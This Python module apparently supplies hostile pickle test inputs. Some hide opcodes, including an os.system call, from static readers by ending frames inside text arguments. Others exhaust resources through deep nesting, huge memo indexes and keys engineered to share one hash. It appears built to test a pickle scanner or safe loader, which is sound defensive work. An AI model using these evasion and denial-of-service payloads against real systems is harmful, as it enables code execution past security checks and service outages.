"""
Pickles that are read in one way before they are loaded and in another way when they are; and keys that cost too much.

A frame may end inside an argument. What reads a pickle as it stands does not care; the C unpickler, when it reads from
a stream, drops the rest of the frame and reads the argument from behind it. So what seemed to be text is opcodes.
"""

from __future__ import annotations

import random

from hostile.parts import frame, long4, message, name, raw, text


def smuggle(hidden: bytes) -> bytes:
    """Hide opcodes in bytes: the frame ends five bytes into a text of eight."""
    inside = b"(" + name("builtins.set") + b"0X\x08\0\0\0abcde"
    return frame(len(inside), inside + b"fgh" + raw(hidden) + b"t.")


def _text_that_begins_twice() -> bytes:
    """Hide a call: one who goes back to the wrong place, into a text's length, reads an opcode there, with a length."""
    call = name("os.system") + b"(S'echo'\ntR"
    size = 0x142  # b"B\x01\0\0", and with the first byte of the text: bytes, of which there is one
    begun = b"\0ZB" + (size - 7 + len(call)).to_bytes(4, "little")
    return b"\x80\x04(K\x01\x85(K\x01tX" + size.to_bytes(4, "little") + begun.ljust(size, b".") + call + b"."


SMUGGLED: dict[str, bytes] = {
    "a call behind a text that begins twice": _text_that_begins_twice(),
    "a value": smuggle(b"K\x07"),
    "a deep key": smuggle(b"}N" + b"\x85" * 200_000 + b"Ns"),
    "a memo index of 4 GB": smuggle(b"Nr\xff\xff\xff\x0f0"),
    "laughs as a key": smuggle(b"})" + b"2\x86" * 60 + b"Ns"),
    "an extension code": smuggle(b"\x82\x01"),
    "BUILD on a value": smuggle(name("collections.OrderedDict") + b")R}" + text("items") + b"K\x01sb"),
}
_MIB = 2**20


def _twins(levels: int) -> bytes:
    """Make two equal values, each level of which is compared twice. Their hashes are kept and cost nothing."""
    out = b""
    for slot in (b"\x00", b"\x01"):
        out += b"(K\x01\x91q" + slot + b"0" + (b"(h" + slot + b"h" + slot + b"\x86\x91q" + slot + b"0") * levels
    return out


def _frozensets_of_one_hash(count: int) -> list[bytes]:
    """Make different frozensets of small ints of one hash, which is the XOR of what its items give: linear algebra."""
    mask = 2**64 - 1

    def shuffled(value: int) -> int:
        return (((value ^ 89869747) ^ ((value << 16) & mask)) * 3644798167) & mask

    pivots: dict[int, tuple[int, int]] = {}
    neutral: list[int] = []  # sets of items whose XOR is zero
    for item in range(200):
        rest, used = shuffled(item) | 1 << 64, 1 << item
        while rest and rest.bit_length() in pivots:
            other, others = pivots[rest.bit_length()]
            rest, used = rest ^ other, used ^ others
        if rest:
            pivots[rest.bit_length()] = (rest, used)
        else:
            neutral.append(used)
    dice = random.Random(1)  # noqa: S311 - which ones is no secret
    by_size: dict[int, set[int]] = {}
    while True:
        chosen = 0
        for part in neutral[:40]:
            chosen ^= part * dice.randrange(2)
        found = by_size.setdefault(chosen.bit_count(), set())
        found.add(chosen)
        if len(found) == count:
            return [b"(" + b"".join(b"K%c" % i for i in range(200) if key >> i & 1) + b"\x91" for key in found]


def equal_frozensets() -> bytes:
    """Two equal values as keys, whose comparison doubles with each level."""
    return b"\x80\x04" + _twins(60) + b"}(h\x00Nh\x01Nu\x85."


def text_by_reference() -> bytes:
    """A key of a megabyte, equal to another one, a million times: each is compared."""
    return message(text(_MIB), b"q\x00", text(_MIB), b"q\x01}(h\x00N", b"h\x01N" * 1_000_000, b"u")


def number_by_reference() -> bytes:
    """A number of a megabyte as a key, again and again: numbers do not keep their hash."""
    return message(long4(b"\x7f" * _MIB), b"q\x00}(", b"h\x00N" * 300_000, b"u")


def decimal_and_number() -> bytes:
    """A Decimal and a large int of one hash: comparing them costs the square of the int's length."""
    number = int.from_bytes(b"\x5a" * _MIB, "little")
    decimal = name("decimal.Decimal") + b"(" + text(str(hash(number))) + b"tR"
    return message(b"}(", decimal, b"N", long4(b"\x5a" * _MIB), b"Nu")


def frozensets_of_one_hash() -> bytes:
    """Thirty thousand different keys of one hash."""
    return b"\x80\x04(}(" + b"".join(key + b"N" for key in _frozensets_of_one_hash(30_000)) + b"ut."


DEAR_KEYS = (equal_frozensets, text_by_reference, number_by_reference, decimal_and_number, frozensets_of_one_hash)
"""Dicts whose keys cost more than their bytes."""
